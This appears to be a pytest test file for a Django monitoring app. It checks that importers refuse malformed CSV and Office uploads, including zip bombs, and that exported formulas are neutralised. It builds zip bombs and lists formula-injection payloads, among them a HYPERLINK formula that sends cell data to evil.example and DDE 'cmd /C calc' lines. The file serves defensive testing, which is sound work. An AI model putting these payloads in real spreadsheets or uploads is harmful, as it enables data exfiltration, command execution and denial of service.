"""Hostile files through the real importers: broken encodings, zip bombs, huge cells, formulas.

Each must end with a clear Vietnamese message and nothing half-saved (row counts unchanged), and
formulas that come in as text must leave an export as text.
"""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from lantoa.core.models import User
from lantoa.monitoring import services as monitoring
from lantoa.monitoring.constants import SourceKind
from lantoa.monitoring.models import Item, PollRun, RawResponse
from lantoa.monitoring.privacy import text_pseudonymise
from lantoa.plans.models import Plan

pytestmark = pytest.mark.django_db
MAPPING = {"text": "noi_dung", "author": "tai_khoan", "url": "lien_ket"}


def _zip_bomb(members: dict[str, bytes], bomb_name: str) -> bytes:
    """A valid Office-looking ZIP whose `bomb_name` member inflates 50 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
        archive.writestr(bomb_name, b"\0" * (50 * 1024 * 1024))
    return buffer.getvalue()


@pytest.fixture
def social(db):
    return monitoring.source_create(url="", kind=SourceKind.SOCIAL_IMPORT, name="Tệp bài đăng")


def _counts():
    return (Item.objects.count(), PollRun.objects.count(), RawResponse.objects.count())


@pytest.mark.parametrize(
    "body,expected",
    [
        # cp1258 / latin-1 bytes in a file sent as UTF-8 CSV
        ("noi_dung,tai_khoan\nBi\xean Quy Nh\xf5n \xf0\xe9p,an\n".encode("latin-1"), "UTF-8"),
        ("noi_dung,tai_khoan\nQuy Nhơn đón khách,an\n".encode("cp1258"), "UTF-8"),
        # UTF-8 cut in the middle of a character
        ("noi_dung,tai_khoan\nBiển Quy Nhơn đẹp,an\n".encode()[:-6], "UTF-8"),
        # one cell bigger than the CSV reader accepts
        (b"noi_dung,tai_khoan\n" + b'"' + b"a" * 200_000 + b'",an\n', "Không đọc được"),
        # a zip bomb named .xlsx
        (_zip_bomb({"[Content_Types].xml": b"<Types/>"}, "xl/worksheets/sheet1.xml"), "nén"),
        # not a workbook at all
        (b"PK\x03\x04 this is not a zip", "Office"),
    ],
    ids=["latin1", "cp1258", "truncated-utf8", "huge-cell", "xlsx-zip-bomb", "xlsx-broken"],
)
def test_broken_posts_files_are_refused_with_nothing_saved(social, body, expected):
    name = "bai.xlsx" if body.startswith(b"PK") else "bai.csv"
    before = _counts()
    with pytest.raises(ValueError) as caught:
        monitoring.posts_import(source_id=social.pk, data=body, filename=name, mapping=MAPPING)
    assert expected in str(caught.value)
    assert "codec" not in str(caught.value)  # no raw Python message for the user
    assert _counts() == before


def test_the_import_form_shows_the_message(client, social, demo_ward):
    client.force_login(User.objects.get(username="admin"))
    before = _counts()
    upload = io.BytesIO("noi_dung\nQuy Nh\xf5n\n".encode("latin-1"))
    upload.name = "bai.csv"
    response = client.post(
        reverse("monitoring_tools:import"),
        {"source": social.pk, "file": upload, "text": "noi_dung"},
    )
    assert "không phải văn bản UTF-8" in response.content.decode()
    assert _counts() == before


def test_a_docx_zip_bomb_is_refused_before_python_docx_opens_it(db):
    from lantoa.plans.services import plan_import_file

    bomb = _zip_bomb({"[Content_Types].xml": b"<Types/>"}, "word/document.xml")
    before = Plan.objects.count()
    with pytest.raises(Exception) as caught:
        plan_import_file(data=bomb, filename="ke-hoach.docx")
    assert "nén bất thường" in str(caught.value) or "quá lớn" in str(caught.value)
    assert Plan.objects.count() == before


def test_the_upload_guard_refuses_the_same_bomb(db):
    from lantoa.core.uploads import check_office_archive

    with pytest.raises(ValidationError):
        check_office_archive(io.BytesIO(_zip_bomb({}, "xl/sharedStrings.xml")))


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formulas_imported_as_posts_leave_an_export_as_text(client, social, demo_ward):
    rows = ["noi_dung,tai_khoan,lien_ket"]
    for n, formula in enumerate(FORMULAS):
        cell = formula.replace('"', '""')
        rows.append(f'"{cell}",=tac_gia_{n},https://social.example/f/{n}')
    run = monitoring.posts_import(
        source_id=social.pk, data="\n".join(rows).encode(), filename="f.csv", mapping=MAPPING
    )
    assert run.stored == len(FORMULAS)
    client.force_login(User.objects.get(username="admin"))
    response = client.get(reverse("wagtailsnippets_monitoring_item:list") + "?export=csv")
    exported = b"".join(response.streaming_content).decode()
    import csv

    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    for formula in FORMULAS:
        # "@SUM" reads as an @mention in a post: it is stored pseudonymised, still neutralised.
        stored = text_pseudonymise(formula)
        assert not any(cell.startswith(stored[:4]) for cell in cells), formula
        assert any(cell.startswith("'" + stored[:4]) for cell in cells), formula
